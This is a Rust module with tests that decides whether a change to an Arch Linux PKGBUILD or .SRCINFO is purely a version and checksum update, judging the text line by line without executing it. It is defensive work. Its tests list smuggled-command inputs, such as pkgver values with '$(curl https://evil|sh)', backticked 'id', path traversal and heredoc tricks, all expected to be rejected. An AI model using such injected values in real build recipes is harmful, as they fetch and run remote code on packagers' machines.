//! Whether a change of a recipe is an update and nothing else: in PKGBUILD and .SRCINFO alone, only the values of pkgver, pkgrel,
//! epoch and checksums are others. It is judged line by line on the text, never by running it; what isn't plainly one is none. Not
//! here: where the texts come from, and which version is the higher one (`change`).

/// The checksums that makepkg knows (PKGBUILD(5)).
const SUMS: [&str; 8] = [
    "cksums",
    "md5sums",
    "sha1sums",
    "sha224sums",
    "sha256sums",
    "sha384sums",
    "sha512sums",
    "b2sums",
];

/// The values that a version is made of.
const VERSION: [&str; 3] = ["epoch", "pkgver", "pkgrel"];

/// The fields of a .SRCINFO that may have the version in them.
const WITH_VERSION: [&str; 8] = [
    "source",
    "provides",
    "conflicts",
    "replaces",
    "noextract",
    "depends",
    "makedepends",
    "optdepends",
];

/// What an update leads from, or to, as the text of a PKGBUILD has it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Values {
    /// Nothing if there is none.
    pub epoch: String,
    /// What is to be the higher one, too.
    pub pkgver: String,
    /// Digits, and dots.
    pub pkgrel: String,
}

impl Values {
    /// The whole version, as vercmp(8) takes it.
    pub fn whole(&self) -> String {
        match self.epoch.is_empty() {
            true => format!("{}-{}", self.pkgver, self.pkgrel),
            false => format!("{}:{}-{}", self.epoch, self.pkgver, self.pkgrel),
        }
    }

    /// What a PKGBUILD's text says; `None` unless each has one plain value, in one place.
    fn of(lines: &[&str]) -> Option<Values> {
        let value = |name: &str| {
            let is_named = |line: &&&str| is_assignment(line.trim_start(), name);
            let mut named = lines.iter().filter(is_named);
            match (named.next(), named.next()) {
                (None, _) => Some(String::new()),
                (Some(line), None) => Some(scalar(line, name)?.1.to_owned()),
                _ => None,
            }
        };
        Some(Values {
            epoch: value("epoch")?,
            pkgver: value("pkgver").filter(|it| !it.is_empty())?,
            pkgrel: value("pkgrel").filter(|it| !it.is_empty())?,
        })
    }
}

/// Whether a line gives a variable a value, in whatever form.
fn is_assignment(line: &str, name: &str) -> bool {
    let rest = line.strip_prefix(name);
    rest.is_some_and(|it| it.starts_with(['=', '+', '[']))
}

/// The quote, if there is one, and the value of a line that is `name=value` and nothing else, and may stand in a version.
fn scalar<'l>(line: &'l str, name: &str) -> Option<(Option<char>, &'l str)> {
    let text = line.strip_prefix(name)?.strip_prefix('=')?;
    let quote = ['\'', '"'].into_iter().find(|it| text.starts_with(*it));
    let value = match quote {
        Some(quote) => text.strip_prefix(quote)?.strip_suffix(quote)?,
        None => text,
    };
    is_value(value, name).then_some((quote, value))
}

fn is_value(value: &str, name: &str) -> bool {
    let is_allowed = |byte: u8| match name {
        "epoch" => byte.is_ascii_digit(),
        "pkgrel" => byte.is_ascii_digit() || byte == b'.',
        _ => byte.is_ascii_alphanumeric() || b".+_~".contains(&byte),
    };
    // Nothing that steers a URL, or is somebody's home.
    let is_plain =
        value.starts_with(|it: char| it.is_ascii_alphanumeric()) && !value.contains("..");
    is_plain && value.len() <= 100 && value.bytes().all(is_allowed)
}

/// Whether a pkgver may be a commit's id, or have one in it: hosts give those of anybody's fork under the same URL, and Git takes four
/// digits for one. It may stand there in pieces, which a recipe puts together; eight digits alone are a date.
fn is_like_an_id(pkgver: &str, is_taken_apart: bool) -> bool {
    let is_hex = |it: char| it.is_ascii_hexdigit();
    let has_letter = |run: &str| run.contains(|it: char| it.is_ascii_alphabetic());
    let is_id = |run: &str, least: usize| run.len() > 8 || (run.len() >= least && has_letter(run));
    let whole: String = pkgver.chars().filter(|it| !"._+~".contains(*it)).collect();
    let mut pieces = whole.split(|it: char| !is_hex(it));
    let mut runs = pkgver.split(|it: char| !is_hex(it));
    let is_pieced = match is_taken_apart {
        true => pieces.any(|run| is_id(run, 4)),
        false => pieces.any(|run| run.len() >= 7 && has_letter(run)),
    };
    is_pieced || runs.any(|run| is_id(run, 4))
}

/// Whether a recipe cuts, or replaces, in the values of variables (bash(1), "Parameter Expansion").
fn takes_apart(lines: &[&str]) -> bool {
    let operator = |rest: &str| rest.chars().find(|it| !it.is_alphanumeric() && *it != '_');
    let mut expansions = lines.iter().flat_map(|line| line.split("${").skip(1));
    expansions.any(|rest| operator(rest).is_some_and(|it| "/#%:^,@".contains(it)))
}

/// What a PKGBUILD's update leads from and to; `None` if its change is another, or none.
pub fn of_pkgbuild(old: &str, new: &str) -> Option<(Values, Values)> {
    // Bash reads over a NUL, and what stands beside it means something else then.
    if old.contains('\0') || new.contains('\0') {
        return None;
    }
    let (old, new): (Vec<&str>, Vec<&str>) = (lines(old), lines(new));
    if old.len() != new.len() {
        return None;
    }
    let (from, to) = (Values::of(&old)?, Values::of(&new)?);
    if is_like_an_id(&to.pkgver, takes_apart(&new)) {
        return None;
    }
    // In a heredoc, or as its end, a line means something else; as the rest of another one, too.
    let (mut has_heredoc, mut goes_on) = (false, false);
    for (place, (before, after)) in old.iter().zip(&new).enumerate() {
        has_heredoc |= before.contains("<<") || before.ends_with("<\\");
        let is_rest = std::mem::replace(&mut goes_on, before.ends_with('\\'));
        let is_version = || {
            // With the same quotes: another one may end a string that began before.
            let is_one = |name: &&str| match (scalar(before, name), scalar(after, name)) {
                (Some((quote, _)), Some((its, _))) => quote == its,
                _ => false,
            };
            VERSION.iter().any(is_one)
        };
        let is_plain = !has_heredoc && !is_rest;
        if before != after && !(is_plain && (is_version() || are_sums(&old, &new, place))) {
            return None;
        }
    }
    Some((from, to))
}

/// Lines as bash has them: only a line feed ends one.
fn lines(text: &str) -> Vec<&str> {
    text.split('\n').collect()
}

/// Whether a line is of an array of checksums, and others of the same length stand in it now.
fn are_sums(old: &[&str], new: &[&str], place: usize) -> bool {
    let (Some(before), Some(after)) = (old.get(..=place), new.get(..=place)) else {
        return false;
    };
    // What stands before them in the array has to be checksums as well, up to the line that begins it.
    let mut is_last = true;
    for (before, after) in before.iter().zip(after).rev() {
        let (Some(before), Some(after)) = (Sums::of(before), Sums::of(after)) else {
            return false;
        };
        // An array that ends before the line isn't its own.
        if !before.is_like(&after) || (before.is_end && !is_last) {
            return false;
        }
        if before.array.is_some() {
            return true;
        }
        is_last = false;
    }
    false
}

/// A line of an array of checksums.
struct Sums<'l> {
    /// The array that it begins.
    array: Option<&'l str>,
    /// Its checksums, without quotes; `SKIP` is one.
    sums: Vec<&'l str>,
    /// Whether it ends the array.
    is_end: bool,
    /// All that stands between them, and behind them.
    rest: String,
}

impl<'l> Sums<'l> {
    fn of(line: &'l str) -> Option<Sums<'l>> {
        let (array, text) = match line.split_once("=(") {
            Some((name, text)) => (Some(name), text),
            None => (None, line),
        };
        let is_array = |name: &str| {
            let (kind, arch) = name.split_once('_').unwrap_or((name, "x"));
            let is_arch = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'_';
            SUMS.contains(&kind) && !arch.is_empty() && arch.bytes().all(is_arch)
        };
        if !array.is_none_or(is_array) {
            return None;
        }
        // A comment is a stranger's text, and stays as it is.
        let (text, comment) = match text.find('#') {
            Some(place) => text.split_at(place),
            None => (text, ""),
        };
        let text = text.trim_end_matches([' ', '\t']);
        let is_end = text.ends_with(')');
        let text = text.strip_suffix(')').unwrap_or(text);
        let mut sums = vec![];
        let mut rest = format!("{is_end}{comment}");
        for word in text.split([' ', '\t']) {
            let quote = ["'", "\""].into_iter().find(|it| word.starts_with(it));
            let sum = match quote {
                Some(quote) => word.strip_prefix(quote)?.strip_suffix(quote)?,
                None => word,
            };
            let is_sum = sum == "SKIP" || sum.bytes().all(|it| it.is_ascii_hexdigit());
            if !is_sum {
                return None;
            }
            rest += quote.unwrap_or(" ");
            sums.extend((!sum.is_empty()).then_some(sum));
        }
        Some(Sums {
            array,
            sums,
            is_end,
            rest,
        })
    }

    /// Whether another line differs in the values of checksums alone, none of which is weaker.
    fn is_like(&self, other: &Sums) -> bool {
        let are_like = |(one, other): (&&str, &&str)| {
            one == other || (is_digest(one) && is_digest(other) && one.len() == other.len())
        };
        let is_same = self.array == other.array && self.rest == other.rest;
        is_same
            && self.sums.len() == other.sums.len()
            && self.sums.iter().zip(&other.sums).all(are_like)
    }
}

/// Whether a text is as long as a checksum of one of the kinds is, in hexadecimal digits.
fn is_digest(text: &str) -> bool {
    let is_hex = text.bytes().all(|it| it.is_ascii_hexdigit());
    is_hex && matches!(text.len(), 32 | 40 | 56 | 64 | 96 | 128)
}

/// Whether a change of a .SRCINFO says nothing else than this update does.
pub fn is_of_srcinfo(old: &str, new: &str, from: &Values, to: &Values) -> bool {
    let (old, new) = (lines(old), lines(new));
    let is_allowed = |(before, after): (&&str, &&str)| {
        if before == after {
            return true;
        }
        let (Some((field, before)), Some((its, after))) = (field(before), field(after)) else {
            return false;
        };
        let kind = field.split('_').next().unwrap_or(field);
        let its_values = |of: &Values| match field {
            "epoch" => of.epoch.clone(),
            "pkgver" => of.pkgver.clone(),
            _ => of.pkgrel.clone(),
        };
        if field != its {
            false
        } else if VERSION.contains(&field) {
            before == its_values(from) && after == its_values(to)
        } else if SUMS.contains(&kind) {
            is_digest(before) && is_digest(after) && before.len() == after.len()
        } else {
            let whole = before.replace(&from.whole(), &to.whole());
            let is_moved = whole == after || before.replace(&from.pkgver, &to.pkgver) == after;
            WITH_VERSION.contains(&kind) && is_moved
        }
    };
    old.len() == new.len() && old.iter().zip(&new).all(is_allowed)
}

/// The name and the value of a line of a .SRCINFO.
pub fn field(line: &str) -> Option<(&str, &str)> {
    line.trim_start_matches(['\t', ' ']).split_once(" = ")
}

#[cfg(test)]
mod tests {
    use super::*;

    const OLD: &str = "pkgname=x\npkgver=1.0\npkgrel=1\nurl=https://x\n\
        source=(\"$url/$pkgver.tar.gz\" fix.patch)\nvalidpgpkeys=(\n  'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'\n)\n\
        sha1sums=('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n          'SKIP') # of both\nprepare() {\n  pkgver_of=1\n}\n";

    fn changed(pairs: &[(&str, &str)]) -> Option<(Values, Values)> {
        let mut new = OLD.to_owned();
        for (before, after) in pairs {
            assert!(new.contains(before), "{before}");
            new = new.replacen(before, after, 1);
        }
        of_pkgbuild(OLD, &new)
    }

    #[test]
    fn only_values_of_the_version_and_of_checksums_make_an_update() {
        let sum = (
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n",
            "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb'\n",
        );
        let (old, new) = changed(&[("pkgver=1.0", "pkgver=1.1~b_2+c"), sum]).unwrap();
        assert_eq!(
            (old.whole(), new.whole()),
            ("1.0-1".into(), "1.1~b_2+c-1".into())
        );
        let (_, new) = changed(&[("pkgrel=1", "pkgrel=2.1")]).unwrap();
        assert_eq!(new.whole(), "1.0-2.1");
    }

    #[test]
    fn what_is_dressed_as_an_update_is_none() {
        for (before, after) in [
            ("pkgver=1.0", "pkgver=1.1$(curl https://evil|sh)"),
            ("pkgver=1.0", "pkgver=1.1; curl https://evil"),
            ("pkgver=1.0", "pkgver=1.1`id`"),
            ("pkgver=1.0", "pkgver=1.1%2F..%2Fevil"),
            ("pkgver=1.0", "pkgver=1.1#"),
            ("pkgver=1.0", "pkgver=1.1?x"),
            ("pkgver=1.0", "pkgver='1.1'\"$(id)\""),
            ("pkgver=1.0", "pkgver=\"1.1'"),
            ("pkgver=1.0", "pkgver=1.1 # a comment"),
            ("pkgver=1.0", "pkgver=1.1\\"),
            ("pkgver=1.0", "pkgver=1.1\r"),
            ("pkgver=1.0", "pkgver=1.\u{661}"),
            ("pkgver=1.0", "pkgver="),
            ("pkgver=1.0", "pkgver='1.1'"),
            ("pkgver=1.0", "pkgver=..9"),
            ("pkgver=1.0", "pkgver=9..9"),
            ("pkgver=1.0", "pkgver=~0"),
            ("pkgver=1.0", "pkgver=99abcde"),
            ("pkgver=1.0", "pkgver=999999999"),
            ("pkgver=1.0", "pkgver=9abc4d"),
            ("pkgver=1.0", "pkgver=20260102.g1a2b3c"),
            ("pkgver=1.0", "pkgver=9.abc_def_012"),
            ("pkgver=1.0", "pkgver=(1.1)"),
            ("pkgver=1.0\npkgrel=1\n", "pkgver=1.1\npkgver=1.2\n"),
            ("pkgver=1.0\n", "pkgver=1.1\npkgver=1.2\n"),
            ("url=https://x", "pkgver=1.1"),
            ("pkgrel=1", "pkgrel=2a"),
            ("pkgrel=1", "epoch=1"),
            ("url=https://x", "url=https://y"),
            ("'SKIP'", "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'"),
            ("'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n", "'SKIP'\n"),
            (
                "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n",
                "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n",
            ),
            ("'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n", "\n"),
            (
                "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n",
                "#aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n",
            ),
            (
                "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n",
                "$(aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa)\n",
            ),
            ("sha1sums", "md5sums"),
            ("# of both", "# of all"),
            (
                "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
                "BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB",
            ),
            ("pkgver_of=1", "pkgver_of=2"),
            ("fix.patch", "fox.patch"),
        ] {
            let both = [("pkgrel=1", "pkgrel=2"), (before, after)];
            let both = &both[usize::from(before.contains("pkgrel"))..];
            assert_eq!(changed(both), None, "{after}");
        }
        // What is in a heredoc, or ends one.
        for (from, to, text) in [
            (
                "pkgrel=1",
                "pkgrel=2",
                "pkgver=1\n: <<'pkgrel=2'\npkgrel=1\necho evil\n",
            ),
            (
                "pkgrel=1",
                "pkgrel=2",
                "pkgver=1\n: <\\\n<'pkgrel=2'\npkgrel=1\necho evil\n",
            ),
            (
                "pkgrel=1",
                "pkgrel=2",
                "pkgver=1\n: <\0<'pkgrel=2'\npkgrel=1\necho evil\n",
            ),
            ("pkgrel=1", "pkgrel=2", "pkgver=1\necho \\\npkgrel=1\n"),
            (
                "FACADE",
                "DECADE",
                "pkgver=1\npkgrel=1\n: <<DECADE\nsha1sums=(\nFACADE\necho evil\nDECADE\n",
            ),
        ] {
            assert_eq!(
                of_pkgbuild(
                    text,
                    &text.replacen(from, to, if from == "pkgrel=1" { 1 } else { usize::MAX })
                ),
                None
            );
        }
        let below =
            |pkgrel: u8| format!("pkgver=1\npkgrel={pkgrel}\npackage() {{ cat <<E\nE\n}}\n");
        assert!(of_pkgbuild(&below(1), &below(2)).is_some());
        // A version that a recipe takes apart may be an id, whatever stands between its digits.
        let version = |version: &str, expansion: &str| {
            format!("pkgver={version}\npkgrel=1\nsource=(\"git+https://x#commit={expansion}\")\n")
        };
        for (pieces, is_one) in [("${pkgver//./}", false), ("${pkgver}", true)] {
            let texts = ["131.0.6778.84", "131.0.6778.85"].map(|it| version(it, pieces));
            assert_eq!(of_pkgbuild(&texts[0], &texts[1]).is_some(), is_one);
        }
        // A version that isn't in one place isn't known.
        let twice = OLD.replace("pkgver_of=1", "pkgver=2");
        let new = twice.replace("pkgrel=1", "pkgrel=2");
        assert_eq!(of_pkgbuild(&twice, &new), None);
    }

    #[test]
    fn a_line_of_checksums_is_one_of_their_array_alone() {
        let sum = |letter: &str| letter.repeat(40);
        let text = |sum: &str| format!("pkgver=1\npkgrel=1\nsha1sums=(SKIP)\nx=(\n{sum}\n)\n");
        assert_eq!(of_pkgbuild(&text(&sum("a")), &text(&sum("b"))), None);
        let text =
            |sum: &str| format!("pkgver=1\npkgrel=1\nsha1sums=(\n  SKIP # x\n\n  {sum}\n)\n");
        assert!(of_pkgbuild(&text(&sum("a")), &text(&sum("b"))).is_some());
        let text = |sum: &str| format!("pkgver=1\npkgrel=1\nsha1sums=(\nSKIP)\n{sum}\n");
        assert_eq!(of_pkgbuild(&text(&sum("a")), &text(&sum("b"))), None);
    }

    #[test]
    fn a_srcinfo_says_what_the_update_says() {
        let old = "pkgbase = x\n\tpkgver = 1.0\n\tpkgrel = 1\n\tsource = x-1.0.tar.gz::https://x/1.0.tar.gz\n\
            \tprovides = y=1.0-1\n\tsha1sums = aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n\tsha1sums = SKIP\n\npkgname = x\n";
        let values = |pkgver: &str| Values {
            epoch: String::new(),
            pkgver: pkgver.to_owned(),
            pkgrel: "1".to_owned(),
        };
        let (from, to) = (values("1.0"), values("1.1"));
        let is_update = |pairs: &[(&str, &str)]| {
            let new = pairs
                .iter()
                .fold(old.to_owned(), |new, (a, b)| new.replace(a, b));
            is_of_srcinfo(old, &new, &from, &to)
        };
        assert!(is_update(&[
            ("1.0", "1.1"),
            (
                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
                "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
            )
        ]));
        for (before, after) in [
            ("= aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "= SKIP"),
            ("= SKIP", "= aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"),
            ("https://x/", "https://evil/"),
            ("pkgname = x", "pkgname = y"),
            ("pkgver = 1.0", "pkgver = $(id)"),
            ("pkgver = 1.0", "pkgver = 6.6"),
            ("pkgver = 1.0", "pkgver = 1.1\n\tdepends = evil"),
            ("provides = y=1.0-1", "provides = z=1.1-1"),
        ] {
            assert!(!is_update(&[(before, after)]), "{after}");
        }
    }
}
